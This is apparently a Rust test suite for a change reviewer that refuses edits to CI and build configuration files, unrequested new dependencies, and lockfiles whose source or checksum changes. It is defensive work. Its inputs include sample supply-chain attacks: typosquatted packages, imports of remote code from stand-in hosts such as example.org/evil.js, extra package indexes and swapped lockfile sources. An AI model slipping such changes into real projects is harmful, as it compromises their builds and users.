//! Attacks on what builds, installs and tests a program: pipelines, dependencies, lockfiles, hooks.

use super::attacks::{says, says_whole};
use super::*;

/// Asserts that nothing under these paths may be touched, whatever the change is.
#[track_caller]
fn protected(paths: &[&str]) {
    for path in paths {
        for (before, after) in [(Some("a\n"), Some("b\n")), (None, Some("b\n")), (Some("a\n"), None)] {
            says(Reason::ProtectedPath, Ruling::Refuse, &[(path, before, after)]);
        }
    }
}

#[test]
fn v_76_what_runs_in_continuous_integration_is_protected_whoever_runs_it() {
    protected(&[
        ".github/workflows/ci.yml",
        ".github/workflows/reusable.yaml",
        ".github/actions/setup/action.yml",
        ".github/actions/setup/index.js",
        ".github/dependabot.yml",
        "tools/.github/workflows/ci.yml",
        "action.yml",
        "action.yaml",
        "actions/build/Action.YML",
        "CODEOWNERS",
        "docs/CODEOWNERS",
        ".gitlab-ci.yml",
        ".gitlab-ci.yaml",
        "ci/deploy.gitlab-ci.yml",
        ".gitlab/ci/a.yml",
        "Jenkinsfile",
        "ci/Jenkinsfile.release",
        "ci/release.jenkinsfile",
        ".circleci/config.yml",
        "azure-pipelines.yml",
        "azure-pipelines.yaml",
        "ci/azure-pipelines-nightly.yml",
        ".azure-pipelines/a.yml",
        "bitbucket-pipelines.yml",
        "bitbucket-pipelines.yaml",
        ".travis.yml",
        "appveyor.yml",
        ".appveyor.yml",
        ".buildkite/pipeline.yml",
        "app/.buildkite/pipeline.yml",
        ".drone.yml",
        ".drone.star",
        ".woodpecker.yml",
        ".woodpecker/a.yml",
        ".cirrus.yml",
        ".cirrus.star",
        ".semaphore/semaphore.yml",
        ".teamcity/settings.kts",
        "app/.teamcity/settings.kts",
        "cloudbuild.yaml",
        "cloudbuild.yml",
        "cloudbuild-release.yaml",
        "buildspec.yml",
        "buildspec-test.yml",
        "codemagic.yaml",
        "bitrise.yml",
        "wercker.yml",
        "netlify.toml",
        "vercel.json",
        "render.yaml",
        "fly.toml",
        "Procfile",
        "skaffold.yaml",
        "Tiltfile",
        "Earthfile",
        "Vagrantfile",
        "dagger.json",
        "Dockerfile",
        "docker/ci.Dockerfile",
        "Containerfile",
        "docker-compose.ci.yml",
        "docker-bake.hcl",
        ".pre-commit-config.yaml",
        "renovate.json",
        "codecov.yml",
    ]);
    says(
        Reason::ProtectedPath,
        Ruling::Refuse,
        &[(".github/workflows/ci.yml", Some("a\n"), None), ("src/ci.yml", None, Some("a\n"))],
    );
}

#[test]
fn v_79_what_runs_when_something_is_installed_built_or_tested_is_protected() {
    protected(&[
        "package.json",
        "packages/a/package.json",
        ".npmrc",
        "packages/a/.npmrc",
        ".yarnrc.yml",
        ".yarn/plugins/evil.cjs",
        "app/.yarn/releases/yarn.cjs",
        ".pnpmfile.cjs",
        "bunfig.toml",
        "pip.conf",
        "pip.ini",
        "setup.py",
        "setup.cfg",
        "lib/setup.py",
        "pyproject.toml",
        "poetry.toml",
        "uv.toml",
        "MANIFEST.in",
        "src/evil.pth",
        "build.rs",
        "crates/a/build.rs",
        ".cargo/config.toml",
        "crates/a/.cargo/config.toml",
        ".config/nextest.toml",
        "crates/a/.config/nextest.toml",
        "conftest.py",
        "src/pkg/conftest.py",
        "sitecustomize.py",
        "pytest.ini",
        ".pytest.ini",
        "tox.ini",
        "noxfile.py",
        "jest.config.js",
        "web/jest.config.ts",
        "jest.setup.ts",
        "jest.preset.js",
        "src/setupTests.ts",
        "vitest.config.mts",
        "vite.config.ts",
        "webpack.config.js",
        "rollup.config.mjs",
        "esbuild.config.mjs",
        "next.config.js",
        "babel.config.json",
        ".babelrc",
        ".swcrc",
        ".mocharc.json",
        ".nycrc",
        ".nycrc.json",
        "nyc.config.js",
        ".c8rc.json",
        "ava.config.js",
        "wdio.conf.ts",
        "karma.conf.js",
        "gulpfile.js",
        "Gruntfile.js",
        "lerna.json",
        "nx.json",
        "turbo.json",
        "binding.gyp",
        "Makefile",
        "makefile",
        "GNUmakefile",
        "build/common.mk",
        "CMakeLists.txt",
        "cmake/evil.cmake",
        "meson.build",
        "configure",
        "configure.ac",
        "Makefile.am",
        "justfile",
        ".justfile",
        "Taskfile.yml",
        "Taskfile.yaml",
        "Rakefile",
        "lib/tasks/evil.rake",
        "extconf.rb",
        "magefile.go",
        "BUILD.bazel",
        "WORKSPACE.bazel",
        "MODULE.bazel",
        "tools/defs.bzl",
        ".bazelrc",
        "gradlew",
        "gradlew.bat",
        "gradle/wrapper/gradle-wrapper.properties",
        "gradle/wrapper/gradle-wrapper.jar",
        "gradle/evil.gradle",
        "init.gradle.kts",
        "buildSrc/src/main/kotlin/Evil.kt",
        "mvnw",
        ".mvn/extensions.xml",
        "app/.mvn/jvm.config",
        "build.xml",
        "build.sbt",
        "project/plugins.sbt",
        "build.zig",
        "Podfile",
        "Fastfile",
        "conanfile.py",
        "vcpkg.json",
        "Directory.Build.props",
        "Directory.Build.targets",
        "build/evil.targets",
        "global.json",
        "phpunit.xml.dist",
        "phpunit.dist.xml",
        ".envrc",
        ".tool-versions",
        "mise.toml",
        "rust-toolchain.toml",
    ]);
    for path in [
        "src/main.rs",
        "src/setup.rs",
        "lib/make.py",
        "src/build/index.ts",
        "src/config.js",
        "docs/install.md",
        "src/tasks/run.py",
        "src/workspace/build/x.rs",
    ] {
        says(Reason::ProtectedPath, Ruling::Pass, &[(path, Some("a\n"), Some("b\n"))]);
    }
}

#[test]
fn v_77_a_package_that_was_not_named_is_refused_in_every_manifest_and_spelling() {
    let npm = "{\n  \"name\": \"app\",\n  \"scripts\": { \"test\": \"jest\" },\n  \"dependencies\": {\n    \"lodash\": \"^4.17.20\"\n  }\n}\n";
    let cargo = "[package]\nname = \"app\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1.0.1\"\n";
    let pyproject = "[project]\nname = \"app\"\ndependencies = [\n    \"requests>=2.0\",\n]\n\n[tool.poetry.dependencies]\nflask = \"^3.0\"\n";
    let requirements = "requests==2.31.0\nflask\n";
    let gomod = "module example.org/app\n\ngo 1.22\n\nrequire (\n\tgithub.com/a/b v1.2.3\n)\n";
    let npm_with = |line: &str| npm.replace("\"^4.17.20\"\n", &format!("\"^4.17.20\",\n    {line}\n"));
    let end = |text: &str, more: &str| format!("{text}{more}\n");
    let cases: Vec<(&str, &str, String)> = vec![
        ("package.json", npm, npm_with("\"lodahs\": \"^1.0.0\"")),
        ("a/b/package.json", npm, npm_with("\"@scope/evil\": \"*\"")),
        ("package.json", npm, npm_with("\"evil\": \"git+ssh://git@example.org/evil.git\"")),
        ("package.json", npm, npm_with("\"evil\": \"owner/evil\"")),
        ("package.json", npm, npm_with("\"evil\": \"\"")),
        ("package.json", npm, npm_with("\"evil\": \"beta\"")),
        // Two on one line, and all on one.
        ("package.json", npm, npm.replace("\"^4.17.20\"", "\"^4.17.20\", \"evil\": \"1.0.0\"")),
        ("package.json", npm, npm_with("\"evil\": \"1.0.0\"").replace('\n', "")),
        // The name stays, the package is another.
        ("package.json", npm, npm.replace("^4.17.20", "npm:evil@1.0.0")),
        ("package.json", npm, npm.replace("^4.17.20", "git+https://example.org/evil.git")),
        ("package.json", npm, npm.replace("^4.17.20", "https://example.org/evil.tgz")),
        ("package.json", npm, npm.replace("^4.17.20", "file:../evil")),
        ("package.json", npm, npm.replace("^4.17.20", "github:owner/evil")),
        ("package.json", npm, npm.replace("^4.17.20", "owner/evil#main")),
        (
            "package.json",
            npm,
            npm.replace("  \"scripts\"", "  \"overrides\": { \"lodash\": \"npm:evil@1\" },\n  \"scripts\""),
        ),
        ("Cargo.toml", cargo, end(cargo, "evil = \"1\"")),
        ("Cargo.toml", cargo, end(cargo, "evil = { version = \"1\" }")),
        ("Cargo.toml", cargo, end(cargo, "evil.version = \"1\"")),
        ("Cargo.toml", cargo, end(cargo, "[dependencies.evil]\nversion = \"1\"")),
        ("Cargo.toml", cargo, end(cargo, "[target.'cfg(unix)'.dependencies.evil]\nversion = \"1\"")),
        ("Cargo.toml", cargo, end(cargo, "[build-dependencies]\nevil = \"1\"")),
        ("Cargo.toml", cargo, format!("dependencies.evil = \"1\"\n{cargo}")),
        ("Cargo.toml", cargo, format!("build-dependencies = {{ evil = \"1\" }}\n{cargo}")),
        ("Cargo.toml", cargo, cargo.replace("\"1.0.1\"", "{ version = \"1.0.1\", package = \"evil\" }")),
        ("Cargo.toml", cargo, cargo.replace("\"1.0.1\"", "{ git = \"https://example.org/serde\" }")),
        ("Cargo.toml", cargo, cargo.replace("\"1.0.1\"", "{ path = \"../evil\" }")),
        ("Cargo.toml", cargo, cargo.replace("\"1.0.1\"", "{ version = \"1.0.1\", registry = \"evil\" }")),
        ("pyproject.toml", pyproject, pyproject.replace("    \"requests", "    \"evil>=1\",\n    \"requests")),
        ("pyproject.toml", pyproject, pyproject.replace("    \"requests", "    \"evil\", \"requests")),
        ("pyproject.toml", pyproject, pyproject.replace("[tool", "[dependency-groups]\ntest = [\"evil\"]\n\n[tool")),
        ("pyproject.toml", pyproject, end(pyproject, "evil = \"^1.0\"")),
        ("pyproject.toml", pyproject, end(pyproject, "evil = { version = \"^1.0\" }")),
        ("pyproject.toml", pyproject, end(pyproject, "[build-system]\nrequires = [\"evil-build\"]")),
        ("pyproject.toml", pyproject, pyproject.replace("requests>=2.0", "requests @ https://example.org/evil.whl")),
        ("requirements.txt", requirements, end(requirements, "reqeusts==1.0")),
        ("requirements-dev.txt", requirements, end(requirements, "evil \\\n    --hash=sha256:00")),
        ("requirements.txt", requirements, end(requirements, "evil[extra]")),
        ("requirements.txt", requirements, end(requirements, "-e git+https://example.org/evil.git#egg=requests")),
        ("requirements.txt", requirements, end(requirements, "-r /tmp/more.txt")),
        ("requirements.txt", requirements, end(requirements, "--extra-index-url https://example.org/simple")),
        ("requirements.txt", requirements, end(requirements, "-i https://example.org/simple")),
        (
            "requirements.txt",
            requirements,
            requirements.replace("requests==2.31.0", "requests @ https://example.org/x.tar.gz"),
        ),
        ("constraints.txt", requirements, end(requirements, "evil==1")),
        (
            "setup.cfg",
            "[options]\ninstall_requires =\n    requests\n",
            "[options]\ninstall_requires =\n    requests\n    evil>=1\n".to_owned(),
        ),
        (
            "setup.py",
            "setup(\n    install_requires=['requests'],\n)\n",
            "setup(\n    install_requires=['requests', 'evil'],\n)\n".to_owned(),
        ),
        ("environment.yml", "dependencies:\n  - numpy\n", "dependencies:\n  - numpy\n  - evil=1.0\n".to_owned()),
        ("go.mod", gomod, gomod.replace(")\n", "\texample.com/evil v1.0.0\n)\n")),
        ("go.mod", gomod, end(gomod, "require \"example.com/evil\" v1.0.0")),
        ("go.mod", gomod, end(gomod, "replace github.com/a/b => example.com/evil v1.0.0")),
        ("go.mod", gomod, end(gomod, "replace github.com/a/b => ../evil")),
        ("go.mod", gomod, end(gomod, "tool example.com/evil/cmd")),
        ("Gemfile", "gem 'rails'\n", "gem 'rails'\ngem 'evil'\n".to_owned()),
        ("Gemfile", "gem 'rails'\n", "gem 'rails', git: 'https://example.org/evil'\n".to_owned()),
        (
            "pom.xml",
            "<artifactId>a</artifactId>\n",
            "<artifactId>a</artifactId>\n<artifactId>evil</artifactId>\n".to_owned(),
        ),
        (
            "build.gradle.kts",
            "implementation(\"a:b:1\")\n",
            "implementation(\"a:b:1\")\ntestImplementation(\"c:evil:1\")\n".to_owned(),
        ),
        (
            "composer.json",
            "{\n  \"require\": {\n    \"a/b\": \"^1\"\n  }\n}\n",
            "{\n  \"require\": {\n    \"a/b\": \"^1\",\n    \"c/evil\": \"^1\"\n  }\n}\n".to_owned(),
        ),
        (
            "App.csproj",
            "<PackageReference Include=\"A\" Version=\"1\" />\n",
            "<PackageReference Include=\"A\" Version=\"1\" />\n<PackageReference Version=\"1\" Include=\"Evil\" />\n"
                .to_owned(),
        ),
        ("Pipfile", "[packages]\nrequests = \"*\"\n", "[packages]\nrequests = \"*\"\nevil = \"*\"\n".to_owned()),
        // No manifest at all: programs that bring their own list.
        ("src/tool.py", "print(1)\n", "# /// script\n# dependencies = [\"evil\"]\n# ///\nprint(1)\n".to_owned()),
        ("src/main.ts", "run()\n", "import evil from \"npm:evil@1\"\nrun()\n".to_owned()),
        ("src/main.ts", "run()\n", "import evil from \"https://example.org/evil.ts\"\nrun()\n".to_owned()),
        ("src/main.js", "run()\n", "const x = await import('https://example.org/evil.js')\nrun()\n".to_owned()),
        ("src/App.java", "class A {}\n", "//DEPS org.example:evil:1.0\nclass A {}\n".to_owned()),
        ("src/a.py", "run()\n", "subprocess.run([sys.executable, '-m', 'pip', 'install', 'evil'])\nrun()\n".to_owned()),
        ("src/a.sh", "run\n", "npm install evil\nrun\n".to_owned()),
        ("src/a.groovy", "run()\n", "@Grab('org.example:evil:1.0')\nrun()\n".to_owned()),
    ];
    for (path, before, after) in &cases {
        says(Reason::DependencyAdded, Ruling::Refuse, &[(path, Some(before), Some(after))]);
    }
}

#[test]
fn v_77_another_version_of_a_package_that_is_there_is_no_new_one() {
    for (path, before, after) in [
        (
            "package.json",
            "{\n  \"dependencies\": {\n    \"lodash\": \"^4.17.20\"\n  }\n}\n",
            "{\n  \"dependencies\": {\n    \"lodash\": \"^4.17.21\"\n  }\n}\n",
        ),
        (
            "package.json",
            "{\n  \"scripts\": {\n    \"lint\": \"eslint .\"\n  }\n}\n",
            "{\n  \"scripts\": {\n    \"lint\": \"eslint src\"\n  }\n}\n",
        ),
        ("Cargo.toml", "[dependencies]\nserde = \"1.0.1\"\n", "[dependencies]\nserde = \"1.0.2\"\n"),
        (
            "Cargo.toml",
            "[dependencies]\nserde = \"1\"\n",
            "[dependencies]\nserde = { version = \"1\", features = [\"derive\"] }\n",
        ),
        ("requirements.txt", "requests==2.31.0\n", "requests==2.32.0\n"),
        ("requirements.txt", "requests\n", "# the client\nrequests\n"),
        (
            "pyproject.toml",
            "dependencies = [\n    \"requests>=2.0\",\n]\n",
            "dependencies = [\n    \"requests>=2.1\",\n]\n",
        ),
        ("go.mod", "require github.com/a/b v1.2.3\n", "require github.com/a/b v1.2.4\n"),
        ("src/a.py", "run()\n", "import json\nprint('pip install it yourself')\nrun()\n"),
        ("src/a.ts", "run()\n", "import { a } from './a'\nimport fs from 'node:fs'\nrun()\n"),
    ] {
        says(Reason::DependencyAdded, Ruling::Pass, &[(path, Some(before), Some(after))]);
    }
}

const NPM_LOCK: &str = "{\n  \"packages\": {\n    \"node_modules/lodash\": {\n      \"version\": \"4.17.20\",\n      \"resolved\": \"https://registry.example.org/lodash/-/lodash-4.17.20.tgz\",\n      \"integrity\": \"sha512-PlhdFcillOINfeV7Ni6oF1TAEayyZBoZ8bcshTHqOYJYlrqzRK5hagpagky5o4HfCzzd1TRkXPMFq6cKk9rGmA==\"\n    }\n  }\n}\n";
const YARN_LOCK: &str = "lodash@^4.17.0:\n  version \"4.17.20\"\n  resolved \"https://registry.example.org/lodash/-/lodash-4.17.20.tgz#b44a9b6297bcb698f1c51a3545a2b3b368d59c52\"\n  integrity sha512-PlhdFcillOINfeV7Ni6oF1TAEayyZBoZ8bcshTHqOYJYlrqzRK5hagpagky5o4HfCzzd1TRkXPMFq6cKk9rGmA==\n";
const CARGO_LOCK: &str = "[[package]]\nname = \"serde\"\nversion = \"1.0.1\"\nsource = \"registry+https://index.example.org/crates\"\nchecksum = \"e1a9f0cc9f6b33a2fa0bd5d3c5b3a6ef9f1f4ed9d5a1bb3b60f4e9a3c0b8c7d6\"\n";
const GO_SUM: &str = "github.com/a/b v1.2.3 h1:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfG=\n";
const UV_LOCK: &str = "[[package]]\nname = \"flask\"\nversion = \"3.0.0\"\nsdist = { url = \"https://files.example.org/packages/aa/bb/flask-3.0.0.tar.gz\", hash = \"sha256:1111111111111111111111111111111111111111111111111111111111111111\" }\n";

#[test]
fn v_78_a_lockfile_that_takes_a_package_from_elsewhere_or_another_content_is_refused() {
    for (path, before, find, replace) in [
        ("package-lock.json", NPM_LOCK, "registry.example.org", "registry.example.com"),
        ("package-lock.json", NPM_LOCK, "https://registry", "http://registry"),
        (
            "package-lock.json",
            NPM_LOCK,
            "https://registry.example.org/lodash/-/lodash-4.17.20.tgz",
            "git+ssh://git@example.org/x/lodash.git#0123456",
        ),
        ("package-lock.json", NPM_LOCK, "https://registry.example.org", "https://user@registry.example.org"),
        // The same server, another package.
        ("package-lock.json", NPM_LOCK, "lodash/-/lodash-4.17.20.tgz", "evil/-/evil-4.17.20.tgz"),
        // The same version, another content.
        ("package-lock.json", NPM_LOCK, "PlhdFcill", "QmmdFcill"),
        ("web/Package-Lock.json", NPM_LOCK, "sha512-PlhdFcill", "sha512-QmmdFcill"),
        (
            "package-lock.json",
            NPM_LOCK,
            ",\n      \"integrity\": \"sha512-PlhdFcillOINfeV7Ni6oF1TAEayyZBoZ8bcshTHqOYJYlrqzRK5hagpagky5o4HfCzzd1TRkXPMFq6cKk9rGmA==\"",
            "",
        ),
        (
            "package-lock.json",
            NPM_LOCK,
            "\"integrity\": \"sha512-PlhdFcillOINfeV7Ni6oF1TAEayyZBoZ8bcshTHqOYJYlrqzRK5hagpagky5o4HfCzzd1TRkXPMFq6cKk9rGmA==\"",
            "\"integrity\": \"\"",
        ),
        ("package-lock.json", NPM_LOCK, "https://registry.example.org/lodash/-/lodash-4.17.20.tgz", "file:../evil.tgz"),
        ("yarn.lock", YARN_LOCK, "registry.example.org", "registry.example.com"),
        ("yarn.lock", YARN_LOCK, "lodash/-/lodash-", "lodahs/-/lodahs-"),
        ("yarn.lock", YARN_LOCK, "sha512-Plhd", "sha512-Qmmd"),
        (
            "Cargo.lock",
            CARGO_LOCK,
            "registry+https://index.example.org/crates",
            "git+https://example.org/serde#0123456",
        ),
        ("Cargo.lock", CARGO_LOCK, "e1a9f0cc", "00000000"),
        (
            "Cargo.lock",
            CARGO_LOCK,
            "checksum = \"e1a9f0cc9f6b33a2fa0bd5d3c5b3a6ef9f1f4ed9d5a1bb3b60f4e9a3c0b8c7d6\"\n",
            "",
        ),
        ("Cargo.lock", CARGO_LOCK, "source = \"registry+https://index.example.org/crates\"\n", ""),
        ("go.sum", GO_SUM, "h1:AbCd", "h1:ZZZZ"),
        ("uv.lock", UV_LOCK, "sha256:1111", "sha256:2222"),
        ("uv.lock", UV_LOCK, "files.example.org", "files.example.com"),
        ("uv.lock", UV_LOCK, "flask-3.0.0.tar.gz", "evil-3.0.0.tar.gz"),
    ] {
        let after = before.replace(find, replace);
        assert_ne!(before, after, "{find}");
        says(Reason::LockfileSourceChanged, Ruling::Refuse, &[(path, Some(before), Some(&after))]);
    }
}

#[test]
fn v_78_a_newer_version_from_the_same_place_with_its_checksum_is_no_such_change() {
    let newer = |text: &str| {
        text.replace("4.17.20", "4.17.21").replace("PlhdFcill", "v2kDEe57l").replace("b44a9b62", "679591c5")
    };
    says(Reason::LockfileSourceChanged, Ruling::Pass, &[("package-lock.json", Some(NPM_LOCK), Some(&newer(NPM_LOCK)))]);
    says(Reason::LockfileSourceChanged, Ruling::Pass, &[("yarn.lock", Some(YARN_LOCK), Some(&newer(YARN_LOCK)))]);
    let newer = CARGO_LOCK.replace("1.0.1", "1.0.2").replace("e1a9f0cc", "f2b8e1dd");
    says(Reason::LockfileSourceChanged, Ruling::Pass, &[("Cargo.lock", Some(CARGO_LOCK), Some(&newer))]);
    let newer = GO_SUM.replace("v1.2.3", "v1.2.4").replace("AbCd", "ZZZZ");
    says(Reason::LockfileSourceChanged, Ruling::Pass, &[("go.sum", Some(GO_SUM), Some(&newer))]);
    let newer = UV_LOCK.replace("3.0.0", "3.0.1").replace("aa/bb", "cc/dd").replace("1111", "2222");
    says_whole(Reason::LockfileSourceChanged, Ruling::Pass, &[("uv.lock", Some(UV_LOCK), Some(&newer))]);
}
